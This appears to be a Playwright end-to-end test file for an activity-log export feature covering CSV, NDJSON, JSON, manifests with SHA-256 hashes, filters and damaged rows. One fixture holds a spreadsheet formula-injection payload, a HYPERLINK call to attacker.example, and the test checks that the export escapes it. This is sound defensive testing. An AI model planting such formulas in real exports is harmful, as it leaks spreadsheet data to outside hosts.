import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';

import type { Download, Page } from '@playwright/test';

import { expect, test } from './fixtures.ts';
import { makeActivity } from './makeActivity.ts';

const listOf = (organizationId: string): string => `/organizations/${organizationId}/activities`;
const dialog = (page: Page) => page.getByRole('dialog', { name: 'Export activities' });

const formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")';
const support = { actorType: 'support', actorDetails: 'Sam' };
const activities = [
  { id: 'e3', createdAt: '2026-05-04T09:12:44Z', type: 'user_login', actorType: 'user', actorDetails: formula },
  {
    id: 'e2',
    createdAt: '2026-05-04T08:00:00Z',
    type: 'quantum_leap',
    ...support,
    newField: { deep: [1, 'zwei, "drei"'] },
  },
  { id: 'e1', createdAt: '2026-05-03T22:30:00Z', type: 'user_login', ...support },
];

/** Presses the button and gives both files as they were saved. */
async function exportBoth(page: Page, buttonName: string) {
  const downloads: Download[] = [];
  page.on('download', (download) => downloads.push(download));
  await dialog(page).getByRole('button', { name: buttonName, exact: true }).click();
  await expect.poll(() => downloads.length).toBe(2);
  const files = await Promise.all(
    downloads.map(async (download) => ({
      name: download.suggestedFilename(),
      bytes: await readFile(await download.path()),
    })),
  );
  // The browser tells of two downloads in either order.
  const manifest = files.find(({ name }) => name.endsWith('.manifest.json'));
  const data = files.find((file) => file !== manifest);
  if (data === undefined || manifest === undefined) throw new Error('two files were awaited');
  return { data, manifest };
}

test('evidence is handed over as a table and a manifest, and its hash can be checked', async ({
  page,
  newWorkspace,
  signIn,
}) => {
  const { organization, keys } = await newWorkspace({ name: 'Acme & Söhne', activities });
  await signIn(keys[0], `${listOf(organization.id)}?actorType=support&actorType=user&order=oldest`);
  await expect(page.getByText('3 activities · all read')).toBeVisible();
  await page.keyboard.press('e');
  await expect(dialog(page)).toContainText('All 3 activities that the filter shows: activities by support or users');
  const { data, manifest } = await exportBoth(page, 'Export 3 activities');

  expect(data.name).toMatch(/^activities-acme-sohne-\d{8}T\d{6}Z\.csv$/u);
  expect(manifest.name).toBe(data.name.replace('.csv', '.manifest.json'));
  expect([...data.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const lines = data.bytes.toString('utf8').slice(1).split('\r\n');
  expect(lines).toHaveLength(5);
  expect(lines[0]).toMatch(/^createdAt,createdAt \(Europe\/Berlin\),id,type,actorType,/u);
  expect(lines[1]).toMatch(/^2026-05-03T22:30:00Z,2026-05-04T00:30:00\+02:00,e1,user_login,support,/u);
  expect(lines[2]).toContain('"{""newField"":{""deep"":[1,""zwei, \\""drei\\""""]}}"');
  expect(lines[3]).toContain(`"'=HYPERLINK(""https://attacker.example/?""&A1,""Click"")"`);

  const stated: unknown = JSON.parse(manifest.bytes.toString('utf8'));
  const sha256 = createHash('sha256').update(data.bytes).digest('hex');
  expect(stated).toMatchObject({
    organization: { id: organization.id, name: 'Acme & Söhne' },
    file: { name: data.name, format: 'csv', activities: 3, sizeBytes: data.bytes.length, sha256 },
    query: { text: 'actorType:support actorType:user', order: 'oldest first', url: page.url(), notUnderstood: [] },
    timeZone: 'Europe/Berlin',
    counts: { inLog: 3, exported: 3, damagedAmongExported: 0 },
    completeness: { state: 'complete', remarks: [] },
  });
  for (const key of keys) {
    expect(data.bytes.includes(key.keySecret) || manifest.bytes.includes(key.keySecret)).toBe(false);
  }
  await expect(dialog(page).getByText(sha256, { exact: true })).toBeVisible();
});

test('a filter narrows the file, and NDJSON keeps fields that nobody knows', async ({ page, newWorkspace, signIn }) => {
  const { organization, keys } = await newWorkspace({ activities });
  await signIn(keys[0], `${listOf(organization.id)}?actorType=support`);
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await dialog(page).getByRole('radio', { name: 'NDJSON' }).check();
  const { data } = await exportBoth(page, 'Export 2 activities');
  const lines = data.bytes.toString('utf8').split('\n');
  expect(lines).toHaveLength(3);
  expect(lines.at(-1)).toBe('');
  expect(JSON.parse(lines[0] ?? '')).toEqual({ ...activities[1], organizationId: organization.id });
  expect(lines[0]).toContain('"createdAt":"2026-05-04T08:00:00Z"');
});

test('who is looked for by an id is called by name wherever the search is told', async ({ page, openActivities }) => {
  const eve = { type: 'user_login', actorType: 'user', actorId: 'Google_00011', actorDetails: 'eve@example.com' };
  await openActivities({ activities: [eve] }, '?q=actor%3AGoogle_00011');
  await expect(page.getByText('activities by eve@example.com', { exact: true })).toBeVisible();
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await expect(dialog(page)).toContainText('1 activity that the filter shows: activities by eve@example.com');
  await page.keyboard.press('Escape');
  await page.getByRole('combobox', { name: 'Filter' }).fill('actor:Google_00011 type:key_create');
  await expect(page.getByText('You are looking for activities by eve@example.com, of type key create.')).toBeVisible();
});

const daysAgo = (days: number): string => new Date(Date.now() - days * 86_400_000).toISOString();

test('the address in the manifest shows the rows of a moving range later too', async ({
  page,
  request,
  newWorkspace,
  signIn,
}) => {
  const recent = [1, 2, 40].map((days) => ({ id: `d${days}`, createdAt: daysAgo(days), type: 'user_login' }));
  const { organization, keys } = await newWorkspace({ activities: recent });
  await signIn(keys[0], `${listOf(organization.id)}?q=last%3A30d`);
  await expect(page.getByText(/^2 of 3 activities/u)).toBeVisible();
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const { manifest } = await exportBoth(page, 'Export 2 activities');
  const { query }: { query: { url: string; urlWithFixedTimes: string } } = JSON.parse(manifest.bytes.toString('utf8'));
  expect(query.url).toBe(page.url());

  // The server writes whole seconds: in the next one, what happens is after the export also by them.
  const exportedAtMs = Date.now();
  await expect.poll(() => Date.now()).toBeGreaterThan(exportedAtMs + 1000);
  await makeActivity(request, { organization, keys }, 'Renamed afterwards');
  await page.goto(query.url);
  await expect(page.getByText(/^3 of 4 activities/u)).toBeVisible();
  await page.goto(query.urlWithFixedTimes);
  await expect(page.getByText(/^2 of 4 activities/u)).toBeVisible();
});

test('an export of thousands of rows has each of them once, as one JSON array', async ({
  page,
  newWorkspace,
  signIn,
}) => {
  const { organization, keys } = await newWorkspace({ activities: 5000 });
  await signIn(keys[0], listOf(organization.id));
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await dialog(page).getByRole('radio', { name: 'JSON', exact: true }).check();
  const { data, manifest } = await exportBoth(page, 'Export 5,000 activities');
  const rows: { id: string; createdAt: string }[] = JSON.parse(data.bytes.toString('utf8'));
  expect(new Set(rows.map(({ id }) => id)).size).toBe(5000);
  expect(rows.map(({ createdAt }) => createdAt)).toEqual(
    rows.map(({ createdAt }) => createdAt).toSorted((a, b) => (a < b ? 1 : a > b ? -1 : 0)),
  );
  expect(JSON.parse(manifest.bytes.toString('utf8'))).toMatchObject({
    file: { sha256: createHash('sha256').update(data.bytes).digest('hex') },
  });
});

test('damaged rows are in the file as they came, and are said to be', async ({ page, newWorkspace, signIn }) => {
  const { organization, keys } = await newWorkspace({ activities, keys: [{ fault: 'damagedRows' }] });
  await signIn(keys[0], listOf(organization.id));
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await expect(dialog(page).getByText('10 rows are damaged')).toBeVisible();
  const { data, manifest } = await exportBoth(page, 'Export 13 activities');
  expect(data.bytes.toString('utf8')).toContain('"{""id"":7,""type"":""service_idle""');
  expect(JSON.parse(manifest.bytes.toString('utf8'))).toMatchObject({
    counts: { exported: 13, damagedAmongExported: 10 },
  });
});

test('an incomplete list says so before and in the manifest', async ({ page, newWorkspace, signIn }) => {
  const { organization, keys } = await newWorkspace({ activities: 600, keys: [{ fault: 'shortBody' }] });
  await signIn(keys[0], listOf(organization.id));
  await expect(page.getByText('Not all activities could be read')).toBeVisible();
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await expect(dialog(page).getByText('The list is not complete, so the file will not be either.')).toBeVisible();
  const start = dialog(page).getByRole('button', { name: /^Export [\d,]+ activit/u });
  await expect(start).toBeEnabled();
  const { manifest } = await exportBoth(page, (await start.textContent()) ?? '');
  expect(JSON.parse(manifest.bytes.toString('utf8'))).toMatchObject({
    completeness: { state: 'incomplete', asOf: null },
  });
});

test('the dialog has nothing that axe objects to, before and after', async ({
  page,
  newWorkspace,
  signIn,
  expectAccessible,
}) => {
  const { organization, keys } = await newWorkspace({ activities });
  await signIn(keys[0], `${listOf(organization.id)}?q=foo%3Abar`);
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await expect(dialog(page).getByText('Not understood and therefore not applied: foo:bar')).toBeVisible();
  await expectAccessible();
  await exportBoth(page, 'Export 3 activities');
  await expect(dialog(page).getByText('3 activities exported')).toBeVisible();
  await expectAccessible();
  await dialog(page).getByRole('button', { name: 'Done' }).click();
  await expect(dialog(page)).toBeHidden();
  await expect(page.getByRole('button', { name: 'Export', exact: true })).toBeFocused();
});
